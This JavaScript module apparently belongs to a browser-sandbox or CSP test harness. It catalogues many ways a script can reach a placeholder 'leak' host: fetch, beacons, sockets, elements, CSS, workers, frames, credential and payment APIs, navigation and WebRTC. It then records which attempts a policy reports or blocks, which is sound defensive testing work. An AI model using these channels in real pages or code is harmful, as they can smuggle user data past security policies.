// Ways by which a script where files are seen could send something away, by kind. Each is the body of a function that
// gets `u`, a web address of somebody else's whose host is the way's own, and `host`.

const link = (rel, more = "") => `add("link", { rel: "${rel}", href: u ${more} }, document.head)`;
const style = (name, value) => `const d = add("div"); d.textContent = "x"; d.style.setProperty("${name}", \`${value}\`)`;
const worker = (source) => `const source = \`const u = "\${u}"; ${source}\`; startWorker(source)`;
const inFrame = (use) => `const f = add("iframe"); const w = f.contentWindow; ${use}`;
const svg = (use) => `const g = add("svg", {}, document.body, "http://www.w3.org/2000/svg"); ${use}`;

export const KINDS = {
  "Requests by script": {
    fetch: `fetch(u, { mode: "no-cors" })`,
    "fetch, POST, kept alive": `fetch(u, { mode: "no-cors", method: "POST", body: "x", keepalive: true })`,
    "fetchLater": `fetchLater(u.replace("http:", "https:"), { activateAfter: 0 })`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("POST", u); x.send("x")`,
    WebSocket: `new WebSocket(u.replace("http", "ws"))`,
    WebTransport: `new WebTransport(u.replace("http:", "https:"))`,
    EventSource: `const e = new EventSource(u); setTimeout(() => e.close(), 500)`,
    sendBeacon: `navigator.sendBeacon(u, "x")`,
    "import()": `return import(u)`,
    "import() of JSON": `return import(u, { with: { type: "json" } })`,
  },
  "Elements": {
    img: `new Image().src = u`,
    "img srcset": `add("img", { srcset: u + " 1x" })`,
    "input of type image": `add("input", { type: "image", src: u })`,
    video: `add("video", { src: u, autoplay: "" })`,
    "video poster": `add("video", { poster: u })`,
    audio: `new Audio(u).play().catch(() => {})`,
    source: `const v = add("video"); add("source", { src: u }, v)`,
    track: `const v = add("video"); add("track", { src: u, kind: "subtitles", default: "" }, v).track.mode = "showing"`,
    embed: `add("embed", { src: u })`,
    object: `add("object", { data: u })`,
    "SVG image": svg(`add("image", { href: u, width: 5, height: 5 }, g, g.namespaceURI)`),
    "SVG use": svg(`add("use", { href: u + "#a" }, g, g.namespaceURI)`),
    "SVG feImage": svg(`const f = add("filter", { id: "ff" }, g, g.namespaceURI); add("feImage", { href: u }, f, g.namespaceURI); add("rect", { filter: "url(#ff)", width: 9, height: 9 }, g, g.namespaceURI)`),
    script: `add("script", { src: u }, document.head)`,
    "module script": `add("script", { type: "module", src: u }, document.head)`,
    "speculation rules": `const e = document.createElement("script"); e.type = "speculationrules"; e.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [u], eagerness: "immediate" }] }); document.head.append(e)`,
    "body background": `document.body.setAttribute("background", u)`,
  },
  "Links in the head": Object.fromEntries(
    ["stylesheet", "icon", "apple-touch-icon", "prefetch", "prerender", "modulepreload", "manifest", "preconnect", "dns-prefetch", "search", "compression-dictionary"]
      .map((rel) => [`link ${rel}`, link(rel)])
      .concat(["image", "fetch", "font", "style", "script"].map((as) => [`link preload as ${as}`, link("preload", `, as: "${as}", crossorigin: ""`)]))
      .concat([["an anchor under x-dns-prefetch-control", `add("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head); add("a", { href: u }).textContent = "x"`]]),
  ),
  "Styles": {
    background: style("background-image", "url(${u})"),
    cursor: style("cursor", "url(${u}), auto"),
    "list-style": style("list-style-image", "url(${u})"),
    mask: style("mask-image", "url(${u})"),
    filter: style("filter", "url(${u}#a)"),
    "image-set": style("background-image", "image-set('${u}' 1x)"),
    "@import in a style sheet": `const s = new CSSStyleSheet(); s.replaceSync("@import url(" + u + ");"); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]`,
    "@import in a style element": `add("style", {}, document.head).append("@import url(" + u + ");")`,
    FontFace: `const f = new FontFace("leak", "url(" + u + ")"); document.fonts.add(f); return f.load()`,
    "paint worklet": `return CSS.paintWorklet.addModule(u)`,
    "audio worklet": `return new AudioContext().audioWorklet.addModule(u)`,
  },
  "Workers": {
    "Worker of an address": `new Worker(trusted(u))`,
    "SharedWorker of an address": `new SharedWorker(u)`,
    "fetch in a blob worker": worker("fetch(u, { mode: 'no-cors' })"),
    "XMLHttpRequest in a blob worker": worker("const x = new XMLHttpRequest(); x.open('GET', u); x.send()"),
    "WebSocket in a blob worker": worker("new WebSocket(u.replace('http', 'ws'))"),
    "importScripts in a blob worker": worker("importScripts(u)"),
    "import() in a blob worker": worker("import(u)"),
    "a worker within a blob worker": worker("new Worker(URL.createObjectURL(new Blob(['fetch(\"' + u + '\")'])))"),
    "a worker of a data: address": `new Worker(trusted("data:text/javascript,fetch('" + u + "')"))`,
  },
  "Frames": {
    iframe: `add("iframe", { src: u })`,
    "iframe over https": `add("iframe", { src: u.replace("http:", "https:") })`,
    "iframe of data:": `add("iframe", { src: "data:text/html,<img src='" + u + "'>" })`,
    "iframe of a blob": `add("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + u + "'>"], { type: "text/html" })) })`,
    "fetch in a blank frame": inFrame(`return w.fetch(u, { mode: "no-cors" })`),
    "an image in a blank frame": inFrame(`const i = w.document.createElement("img"); i.src = u; w.document.body.append(i)`),
    "WebSocket in a blank frame": inFrame(`new w.WebSocket(u.replace("http", "ws"))`),
    "a blank frame's location": inFrame(`w.location = u`),
    "a refresh in a blank frame": inFrame(`const m = w.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + u; w.document.head.append(m)`),
    "links in a blank frame": inFrame(`for (const rel of ["prefetch", "preconnect", "dns-prefetch", "stylesheet"]) { const l = w.document.createElement("link"); l.rel = rel; l.href = u; w.document.head.append(l); }`),
    "a form within a blank frame": inFrame(`const o = w.document.createElement("form"); o.action = u; w.document.body.append(o); o.submit()`),
    "a download in a blank frame": inFrame(`const a = w.document.createElement("a"); a.href = u; a.download = "x"; w.document.body.append(a); a.click()`),
  },
  "What asks by itself": {
    "WebAuthn, get": `return navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host, timeout: 500 } })`,
    "WebAuthn, create": `return navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { id: host, name: "x" }, user: { id: new Uint8Array(8), name: "x", displayName: "x" }, pubKeyCredParams: [{ type: "public-key", alg: -7 }], timeout: 500 } })`,
    "federated sign-in": `return navigator.credentials.get({ identity: { providers: [{ configURL: u.replace("http:", "https:"), clientId: "1" }] } })`,
    "payment request": `return new PaymentRequest([{ supportedMethods: u.replace("http:", "https:") }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment()`,
    "a notification's picture": `new Notification("x", { icon: u })`,
    "a link's ping": `add("a", { href: "#x", ping: u }).click()`,
  },
  "What is kept for the next visit": {
    "a cookie": `document.cookie = "leak=secret; path=/; max-age=999"; if (!document.cookie.includes("secret")) throw new Error("not kept"); return KEPT`,
    localStorage: `localStorage.leak = "secret"; return KEPT`,
    indexedDB: `return new Promise((resolve, reject) => { const o = indexedDB.open("leak"); o.onsuccess = () => resolve(KEPT); o.onerror = () => reject(o.error ?? new Error("refused")); })`,
    "the cache of the service worker": `return caches.open("leak").then((cache) => cache.put("./", new Response("x"))).then(() => KEPT)`,
    "a service worker": `return navigator.serviceWorker.register(trusted("offline.js?leak")).then(() => KEPT)`,
    "its own files (OPFS)": `return navigator.storage.getDirectory().then((d) => d.getFileHandle("x", { create: true })).then(() => KEPT)`,
  },
};

/** Those after which the document may be another: each is tried on a page of its own. */
export const LEAVING = {
  "Leaving the page": {
    "location": `location.href = u`,
    "navigation.navigate": `navigation.navigate(u)`,
    "meta refresh": `add("meta", { "http-equiv": "refresh", content: "0;url=" + u }, document.head)`,
    "a link": `add("a", { href: u }).click()`,
    "a link to a new window": `add("a", { href: u, target: "_blank" }).click()`,
    // Firefox takes it for a hand's click for some seconds after one; here, where its popup blocker is off, always.
    "a link, clicked with Ctrl by a script": `add("a", { href: u }).dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, ctrlKey: true }))`,
    "a link of the whole window": `add("a", { href: u, target: "_top" }).click()`,
    "the whole window's location": `top.location.href = u`,
    "window.open": `if (window.open(u)) return "a window"`,
    "a download": `add("a", { href: u, download: "x" }).click()`,
    "a form, GET": `add("form", { action: u }).submit()`,
    "a form, POST, to a new window": `add("form", { action: u, method: "post", target: "_blank" }).submit()`,
    "javascript: address": `location.href = "javascript:fetch('" + u + "')"`,
  },
  "WebRTC": {
    RTCPeerConnection: `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host + ":3478" }] }); c.createDataChannel("x"); return c.createOffer().then((offer) => c.setLocalDescription(offer))`,
    "RTCPeerConnection of a blank frame": inFrame(`const c = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:" + host + ":3478" }] }); c.createDataChannel("x"); return c.createOffer().then((offer) => c.setLocalDescription(offer))`),
  },
};

/** What a way may use. */
const TOOLS = `
  const KEPT = "kept";
  const add = (tag, attributes = {}, to = document.body, space) => {
    const node = space ? document.createElementNS(space, tag) : document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
    to.append(node);
    return node;
  };
  const trusted = (url) => globalThis.keptPolicy?.createScriptURL(url) ?? url;
  const startWorker = (source) => new Worker(trusted(URL.createObjectURL(new Blob([source], { type: "text/javascript" }))));
`;

/** A script that tries a way and resolves to what a page is told of it. */
export const tryOne = (body, host) => `(async () => {
  const host = ${JSON.stringify(host)};
  const u = "http://" + host + "/leak";
  ${TOOLS}
  const told = [];
  const hear = (event) => { if (String(event.blockedURI).includes(host)) told.push(event.effectiveDirective); };
  document.addEventListener("securitypolicyviolation", hear);
  let came;
  try {
    came = await Promise.race([(async () => { ${body} })(), new Promise((resolve) => setTimeout(resolve, 400))]);
  } catch (error) {
    told.push(error?.name ?? String(error));
  }
  document.removeEventListener("securitypolicyviolation", hear);
  return [typeof came === "string" ? came : "", ...new Set(told)].filter(Boolean).join(", ");
})()`;
